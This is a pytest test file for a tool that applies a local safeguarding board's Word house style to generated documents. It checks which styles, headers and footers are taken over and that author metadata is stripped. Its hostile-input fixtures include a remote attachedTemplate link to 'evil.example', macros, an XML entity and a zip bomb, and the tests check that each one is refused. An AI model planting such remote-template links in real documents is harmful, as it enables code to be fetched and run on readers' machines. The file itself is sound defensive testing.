"""The Board's own house style: what is taken of it, what is left behind, and what is refused."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Cm, Pt, RGBColor

from reviewctl.exchange.word.document import document_of
from reviewctl.exchange.word.house import LARGEST, check_house
from reviewctl.model.prose import Prose
from reviewctl.render.markdown_body import body_of
from reviewctl.store import house as kept
from tests.commands import House
from tests.evidence.out.pages import opened, part, words_of
from tests.evidence.out.test_word import TEXT

MAKER = "Jo Author"


def house_style(change: Callable[[object], None] | None = None) -> bytes:
    """A house style as somebody makes it in Word: an example document with the Board's styles, header and footer."""
    document = Document()
    document.styles["Normal"].font.name = "Georgia"
    heading = document.styles["Heading 1"]
    heading.font.size, heading.font.color.rgb = Pt(20), RGBColor(0, 0x5A, 0x70)
    section = document.sections[0]
    section.page_width, section.page_height, section.left_margin = Cm(21), Cm(29.7), Cm(3)
    section.header.paragraphs[0].text = "ANYSHIRE SAFEGUARDING ADULTS BOARD"
    section.footer.paragraphs[0].text = "Town Hall, Anyshire"
    document.add_heading("An example", 1)
    document.add_paragraph("An example of our style, with a name in it.")
    document.add_table(2, 2)
    document.core_properties.author = document.core_properties.last_modified_by = MAKER
    document.core_properties.comments = f"by {MAKER}"
    if change is not None:
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(data: bytes, changes: dict[str, bytes]) -> bytes:
    """A package with some parts put in, or put in place of others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, one in changes.items():
            new.writestr(name, one)
    return out.getvalue()


def in_it(house: bytes, text: str = TEXT) -> bytes:
    """A text as a document in that house style."""
    body = body_of(text)
    return document_of(
        Prose(title="A text", reference="SAR-2025-001", blocks=body.blocks, notes=body.notes, source=text),
        house,
    )


def test_styles_page_header_and_footer_are_taken() -> None:
    """The document looks as the Board's do."""
    document = opened(in_it(house_style()))
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.styles["Heading 1"].font.size == Pt(20)
    section = document.sections[0]
    assert round(section.left_margin.cm, 1) == 3.0
    assert section.header.paragraphs[0].text == "ANYSHIRE SAFEGUARDING ADULTS BOARD"
    assert section.footer.paragraphs[0].text == "Town Hall, Anyshire"
    assert section.footer.paragraphs[1].text.startswith("SAR-2025-001 · Confidential · page ")


def test_nothing_else_of_it_is_taken() -> None:
    """Neither its example text nor who made it, with what, or when."""
    data = in_it(house_style())
    assert "example" not in words_of(opened(data))
    with zipfile.ZipFile(io.BytesIO(data)) as parcel:
        assert not any(MAKER.encode() in parcel.read(name) for name in parcel.namelist())
    assert opened(data).core_properties.created.year == 2000
    assert in_it(house_style()) == data


def test_a_first_page_with_a_foot_of_its_own_says_it_too() -> None:
    """A letterhead has a first page that differs, and that page must say whose it is as well."""

    def first_differs(document: object) -> None:
        section = document.sections[0]
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = "crest"

    section = opened(in_it(house_style(first_differs))).sections[0]
    assert section.first_page_footer.paragraphs[0].text.startswith("SAR-2025-001 · Confidential")
    assert section.first_page_header.paragraphs[0].text == "crest"


LACKING = ("Heading 2", "List Paragraph", "List Bullet", "Quote", "Table Grid")


def bare(document: object) -> None:
    """Take away the styles that Word leaves out of a file in which they are not used, and its lists."""
    for name in LACKING:
        document.styles[name].delete()
    rels = document.part.rels
    for key in [key for key, one in rels.items() if one.reltype.endswith("/numbering")]:
        del rels[key]


def test_what_it_lacks_is_as_in_ours() -> None:
    """A style that the Board never used is ours, and lists are lists although it brings none."""
    data = in_it(house_style(bare))
    document = opened(data)
    styles = {paragraph.text: paragraph.style.name for paragraph in document.paragraphs if paragraph.style}
    assert styles["a point"] == "List Paragraph" and styles["quoted"] == "Quote"
    assert document.tables[0].style is not None and document.tables[0].style.name == "Table Grid"
    held = [p._p.pPr.numPr for p in document.paragraphs if p._p.pPr is not None]
    numbers = {one.numId.val for one in held if one is not None}
    known = re.findall(r'<w:num [^>]*w:numId="(\d+)"', part(data, "word/numbering.xml"))
    assert {str(number) for number in numbers} <= set(known)


def test_points_of_letters_have_a_list_to_belong_to(case: House, tmp_path: Path) -> None:
    """A lent style of points counts by a list that is in the document."""
    case.put("house-style.docx", house_style(bare))
    file = tmp_path / "letter.docx"
    assert case.tries("letter", "acknowledgement", "SAR-2025-001", "-o", str(file)).code == 0
    document = opened(file.read_bytes())
    lent = document.styles["List Bullet"].element.find(f".//{qn('w:numId')}").get(qn("w:val"))
    assert f'w:numId="{lent}"' in part(file.read_bytes(), "word/numbering.xml")
    assert document.sections[0].header.paragraphs[0].text == "ANYSHIRE SAFEGUARDING ADULTS BOARD"


def test_headings_named_as_libreoffice_names_them_are_found() -> None:
    """LibreOffice writes "Heading 1" where Word writes "heading 1"; the Board's own is taken either way."""
    plain = house_style()
    styles = part(plain, "word/styles.xml").replace('w:val="heading 1"', 'w:val="Heading 1"')
    document = opened(in_it(repacked(plain, {"word/styles.xml": styles.encode()})))
    assert document.styles["Heading 1"].font.size == Pt(20)
    assert len([one for one in document.styles if one.name == "Heading 1"]) == 1


MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def a_template(data: bytes) -> bytes:
    types = part(data, "[Content_Types].xml").replace(MAIN, MAIN.replace("document.main", "template.main"))
    return repacked(data, {"[Content_Types].xml": types.encode()})


def fetching(data: bytes) -> bytes:
    rels = part(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    return repacked(data, {"word/_rels/document.xml.rels": rels.encode()})


ENTITY = b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'

HOSTILE = {
    "no-document": lambda data: b"not a zip at all",
    "cut-short": lambda data: data[: len(data) // 2],
    "macros": lambda data: repacked(data, {"word/vbaProject.bin": b"macro"}),
    "template": a_template,
    "fetches": fetching,
    "entity": lambda data: repacked(data, {"word/styles.xml": ENTITY}),
    "no-styles-xml": lambda data: repacked(data, {"word/styles.xml": b"<x"}),
    "too-large": lambda data: data + b"\0" * LARGEST,
    "bomb": lambda data: repacked(data, {"word/media/x.xml": b" " * 80_000_000}),
}


@pytest.mark.parametrize("harm", HOSTILE)
def test_what_cannot_be_trusted_is_refused(case: House, tmp_path: Path, harm: str) -> None:
    """In a sentence that says which file and how to mend it; nothing is written."""
    case.put("house-style.docx", HOSTILE[harm](house_style()))
    file = tmp_path / "status.docx"
    said = case.refuses("status", "-o", str(file))
    assert "house-style.docx" in said and not file.exists()
    assert case.does("status", "-o", str(tmp_path / "status.html")).code == 0


def test_a_link_in_a_footer_is_no_harm() -> None:
    """A Board's footer may name its website."""

    def linked(document: object) -> None:
        part_of: object = document.sections[0].footer.part
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
        part_of.relate_to("https://www.example.org", kind, is_external=True)

    check_house(house_style(linked))


def test_a_register_may_hold_one_and_save_it(case: House) -> None:
    """It is a known file of the register: nothing is to be put right, and it is saved as it is."""
    data = house_style()
    case.put("house-style.docx", data)
    assert "FIL054" not in case.codes()
    assert case.does("save", "The Board's house style").code == 0
    assert case.unsaved() == ""
    assert (case.root / "house-style.docx").read_bytes() == data


@pytest.mark.parametrize(
    "place", ["cases/SAR-2025-001/house-style.docx", "meetings/house-style.docx", "House-Style.docx"]
)
def test_anywhere_else_it_is_a_word_document_like_any_other(case: House, place: str) -> None:
    """Only the register's own folder has a place for it."""
    case.put(place, house_style())
    assert "FIL054" in case.codes()


def test_one_that_is_too_large_is_found(case: House) -> None:
    """git keeps it for ever, so it may not be as large as it likes."""
    case.put("house-style.docx", b"\0" * (LARGEST + 1))
    assert "FIL054" in case.codes()
    assert "larger than 4 MB" in case.tries("validate").out


def test_both_doors_know_the_same_size() -> None:
    """What `validate` lets pass is not refused when it is used."""
    assert kept.LARGEST == LARGEST


def test_a_link_in_its_place_is_not_followed(case: House, tmp_path: Path) -> None:
    """What it leads to may be anything."""
    (tmp_path / "other.docx").write_bytes(house_style())
    (case.root / "house-style.docx").symlink_to(tmp_path / "other.docx")
    assert "FIL052" in case.codes()
    file = tmp_path / "status.docx"
    case.does("status", "-o", str(file))
    assert "ANYSHIRE" not in opened(file.read_bytes()).sections[0].header.paragraphs[0].text


def test_a_letter_without_a_house_style_is_as_it_ever_was(case: House, tmp_path: Path) -> None:
    """Its own paper: A4 in Arial, headings in black."""
    file = tmp_path / "letter.docx"
    assert case.tries("letter", "acknowledgement", "SAR-2025-001", "-o", str(file)).code == 0
    document = opened(file.read_bytes())
    assert document.styles["Normal"].font.name == "Arial"
    assert "of NUMPAGES" not in document.sections[0].footer.paragraphs[0].text
